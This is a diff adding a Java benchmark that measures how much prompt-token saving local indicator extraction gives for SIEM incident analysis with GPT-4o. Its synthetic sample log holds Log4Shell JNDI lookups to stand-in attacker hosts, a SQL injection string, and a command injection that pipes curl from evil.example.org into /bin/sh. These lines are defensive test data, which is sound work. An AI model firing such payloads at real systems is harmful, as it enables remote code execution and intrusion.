@@ -0,0 +1,108 @@
+import dev.langchain4j.data.message.UserMessage;
+import dev.langchain4j.model.TokenCountEstimator;
+import dev.langchain4j.model.chat.ChatModel;
+import dev.langchain4j.model.chat.request.ChatRequest;
+import dev.langchain4j.model.chat.response.ChatResponse;
+import dev.langchain4j.model.openai.OpenAiChatModelName;
+import dev.langchain4j.model.openai.OpenAiTokenCountEstimator;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.List;
+
+/**
+ * IndicatorExtractionBenchmark: measures what local indicator extraction saves on the analyst prompt.
+ * Every SIEM incident found in the log is turned into the raw and the compacted analyst prompt, and
+ * both are counted with the GPT-4o tokenizer.
+ *
+ * <p>Usage: {@code IndicatorExtractionBenchmark [log file] [--live]}. Without a log file a synthetic one
+ * is generated. With {@code --live} both prompts are also sent to the configured model, to compare the
+ * reported input tokens and the end-to-end latency.
+ */
+public class IndicatorExtractionBenchmark {
+
+    private static final int EXTRACTION_RUNS = 200;
+
+    public static void main(String[] args) throws Exception {
+        boolean live = Arrays.asList(args).contains("--live");
+        Path file = Arrays.stream(args).filter(a -> !a.startsWith("--")).findFirst().map(Path::of).orElse(null);
+        if (file == null) {
+            file = Files.createTempFile("siem-sample", ".log");
+            file.toFile().deleteOnExit();
+            Files.write(file, sampleLog());
+        }
+
+        List<LogScanner.Incident> incidents = new LogScanner(LogScanner.DEFAULT_INDICATORS, 1).scan(file).incidents();
+        TokenCountEstimator tokens = new OpenAiTokenCountEstimator(OpenAiChatModelName.GPT_4_O);
+        IndicatorExtractor extractor = new IndicatorExtractor();
+        ChatModel chatModel = live ? ModelRegistry.chatModel() : null;
+
+        System.out.printf("--- [INDICATOR EXTRACTION] %s: %d incident(s) ---%n", file.getFileName(), incidents.size());
+        long rawTotal = 0;
+        long compactTotal = 0;
+        for (LogScanner.Incident incident : incidents) {
+            String background = incident.background(file);
+            String raw = SecurityIncidentDiagnosticChainOfThoughtsWithEvaluation.analystPrompt(background, false);
+            String compact = SecurityIncidentDiagnosticChainOfThoughtsWithEvaluation.analystPrompt(background, true);
+            int rawTokens = tokens.estimateTokenCountInText(raw);
+            int compactTokens = tokens.estimateTokenCountInText(compact);
+            rawTotal += rawTokens;
+            compactTotal += compactTokens;
+
+            long start = System.nanoTime();
+            for (int i = 0; i < EXTRACTION_RUNS; i++) {
+                extractor.compact(background);
+            }
+            long micros = (System.nanoTime() - start) / 1_000 / EXTRACTION_RUNS;
+            System.out.printf("  %-15s %5d -> %5d prompt tokens (%5.1f%% saved) | extraction %4d µs%n",
+                    incident.source(), rawTokens, compactTokens, saved(rawTokens, compactTokens), micros);
+
+            if (live) {
+                System.out.printf("  %-15s %s | %s%n", "", call(chatModel, "raw", raw), call(chatModel, "extracted", compact));
+            }
+        }
+        System.out.printf("Total: %d -> %d prompt tokens (%.1f%% saved)%n", rawTotal, compactTotal, saved(rawTotal, compactTotal));
+        if (live) System.out.println("\n" + LatencyMetrics.report());
+    }
+
+    private static double saved(long before, long after) {
+        return before == 0 ? 0 : 100.0 * (before - after) / before;
+    }
+
+    private static String call(ChatModel chatModel, String label, String prompt) {
+        long start = System.nanoTime();
+        ChatResponse response = chatModel.chat(ChatRequest.builder()
+                .messages(UserMessage.from(prompt))
+                .build());
+        long millis = (System.nanoTime() - start) / 1_000_000;
+        LatencyMetrics.timer("analyst_" + label).record(millis * 1_000);
+        Integer input = response.tokenUsage() == null ? null : response.tokenUsage().inputTokenCount();
+        return "%s: %s input tokens, %d ms".formatted(label, input == null ? "?" : input, millis);
+    }
+
+    /**
+     * A small access log with a Log4Shell probe, a SQL injection and a command injection among normal traffic.
+     */
+    static List<String> sampleLog() {
+        List<String> lines = new ArrayList<>();
+        for (int i = 0; i < 200; i++) {
+            lines.add("10.0.0.%d - - [18/Oct/2026:10:%02d:%02d +0000] \"GET /products/%d HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\""
+                    .formatted(i % 50 + 1, i / 60, i % 60, i));
+            if (i % 40 == 0) {
+                lines.add(("203.0.113.7 - - [18/Oct/2026:10:%02d:%02d +0000] \"GET /search?q=${jndi:ldap://198.51.100.9:1389/Exploit%d} HTTP/1.1\""
+                        + " 200 312 \"-\" \"${jndi:ldap://attacker.example.net/a}\"").formatted(i / 60, i % 60, i));
+            }
+            if (i % 50 == 10) {
+                lines.add(("198.51.100.23 - - [18/Oct/2026:10:%02d:%02d +0000] \"GET /api/orders?id=1' or '1'='1 HTTP/1.1\""
+                        + " 500 88 \"-\" \"sqlmap/1.7\"").formatted(i / 60, i % 60));
+            }
+            if (i % 70 == 5) {
+                lines.add(("192.0.2.44 - - [18/Oct/2026:10:%02d:%02d +0000] \"POST /cgi-bin/ping?host=8.8.8.8;curl http://evil.example.org/x.sh|/bin/sh HTTP/1.1\""
+                        + " 200 64 \"-\" \"curl/8.0\"").formatted(i / 60, i % 60));
+            }
+        }
+        return lines;
+    }
+}